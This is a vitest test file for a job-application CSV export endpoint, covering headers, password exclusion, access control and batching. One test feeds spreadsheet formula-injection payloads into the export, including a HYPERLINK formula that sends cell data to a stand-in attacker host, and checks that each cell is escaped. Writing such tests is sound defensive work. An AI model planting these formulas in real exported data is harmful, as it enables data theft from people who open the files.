import { expect, test, vi } from 'vitest'
import { maxSelected } from '#contract/application-summary.ts'
import { createApplicationFor, createSignedInTeam } from '#test/factories.ts'
import { fileApp } from '#test/harness.ts'
import { insertManyApplications } from '#test/many-applications.ts'

const file = fileApp()
const path = '/api/applications/export.csv'

/** Parses CSV by RFC 4180. */
function parse(text: string) {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === '\r\n') rows.push([])
  }
  return rows.slice(0, -1)
}

test('the own applications are exported newest first, without passwords', async () => {
  const app = file()
  const { seeker, manager } = await createSignedInTeam(app)
  await createApplicationFor(app, manager, { userId: seeker.id, sitePassword: 'a site password' })
  const own = { company: 'Łódź, "Sons"', position: 'مهندس', jobUrl: 'https://jobs.example.test/1?a=b,c' }
  await seeker.calls.post('/api/applications', { ...own, notes: 'Two\nlines', dateApplied: '2026-03-01' })
  const { status, headers, text } = await seeker.calls.get(path)
  expect(status).toBe(200)
  expect(headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present',
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
  })
  expect(headers['content-disposition']).toMatch(/^attachment; filename="applications-\d{4}-\d\d-\d\d\.csv"$/)
  expect(text.startsWith('\uFEFFCompany,Position,Status,')).toBe(true)
  expect(text).not.toMatch(/site password|v1:/)
  const [, first, second, ...otherRows] = parse(text)
  expect(first?.slice(0, 8)).toEqual([
    own.company,
    own.position,
    'interested',
    '2026-03-01',
    own.jobUrl,
    '',
    '',
    'Two\nlines',
  ])
  expect(second?.slice(0, 3)).toEqual(['Acme', 'Engineer', 'interested'])
  expect(otherRows).toEqual([])
})

test('no cell is a formula for a spreadsheet', async () => {
  const app = file()
  const { seeker } = await createSignedInTeam(app)
  const harmful = ['=1+1', '+1', '-1', '@SUM(A1)', '＝1+1', '=HYPERLINK("https://evil.example.test?"&A1,"a")']
  for (const company of harmful)
    await seeker.calls.post('/api/applications', { company, position: '=cmd', notes: company })
  await app.pool.query(
    `insert into job_applications (user_id, company, position, notes)
     values ($1, e'\\t=1+1', e'\\r=1+1', e'\\n=1+1')`,
    [seeker.id],
  )
  const [, ...rows] = parse((await seeker.calls.get(path)).text)
  expect(rows).toHaveLength(harmful.length + 1)
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
  expect(rows.at(-1)?.[0]).toBe("'=1+1")
})

test("a manager exports all clients with their names, or one; no one exports other people's", async () => {
  const app = file()
  const { seeker, manager, admin, otherManager, otherSeeker } = await createSignedInTeam(app)
  await createApplicationFor(app, manager, { userId: seeker.id })
  await createApplicationFor(app, otherManager, { userId: otherSeeker.id, company: 'Elsewhere' })
  const [header, ...rows] = parse((await manager.calls.get(path)).text)
  expect(header?.[0]).toBe('\uFEFFClient')
  expect(rows.map((row) => row.slice(0, 2))).toEqual([['Sam Rivera', 'Acme']])
  for (const { calls } of [seeker, manager, admin]) {
    const [header, ...rows] = parse((await calls.get(`${path}?userId=${seeker.id}`)).text)
    expect(header?.[0]).toBe('\uFEFFCompany')
    expect(rows).toHaveLength(1)
  }
  for (const { calls } of [otherSeeker, otherManager])
    expect((await calls.get(`${path}?userId=${seeker.id}`)).status).toBe(404)
  expect((await admin.calls.get(`${path}?userId=1`)).status).toBe(400)
  expect(parse((await admin.calls.get(path)).text)).toHaveLength(1)
  expect(await app.anonymous.get(path)).toMatchObject({ status: 401, body: { message: 'Unauthorized' } })
})

test('a selection is exported, of what the reader may see alone', async () => {
  const app = file()
  const { seeker, manager, otherManager, otherSeeker } = await createSignedInTeam(app)
  const foreign = await createApplicationFor(app, otherManager, { userId: otherSeeker.id, company: 'Elsewhere' })
  const made = await Promise.all(
    ['Mills', 'Zeta', 'Acme'].map((company) => createApplicationFor(app, manager, { userId: seeker.id, company })),
  )
  const ids = [...made.slice(0, 2), foreign].map(({ id }) => id).join(',')
  const exported = async (calls: typeof seeker.calls, column: number) =>
    parse((await calls.get(`${path}?ids=${ids}`)).text)
      .slice(1)
      .map((row) => row[column])
      .toSorted()
  expect(await exported(seeker.calls, 0)).toEqual(['Mills', 'Zeta'])
  expect(await exported(manager.calls, 1)).toEqual(['Mills', 'Zeta'])
  expect(await exported(otherManager.calls, 1)).toEqual(['Elsewhere'])
  const tooMany = Array(maxSelected + 1).fill(foreign.id)
  for (const refused of ['1', '', `${ids},`, tooMany.join(',')])
    expect((await seeker.calls.get(`${path}?ids=${refused}`)).status, refused).toBe(400)
})

test('5,000 rows are sent in batches, each read after the one before was sent', async () => {
  const app = file()
  const { seeker } = await createSignedInTeam(app)
  await insertManyApplications(app.pool, seeker.id, 5_000)
  const query = vi.spyOn(app.pool, 'query')
  const [, ...rows] = parse((await seeker.calls.get(path)).text)
  expect(rows).toHaveLength(5_000)
  expect(new Set(rows.map(([, position]) => position)).size).toBe(5_000)
  const results = await Promise.all(query.mock.results.map(({ value }) => value as unknown as { rowCount: number }))
  expect(Math.max(...results.map(({ rowCount }) => rowCount))).toBe(501)
})
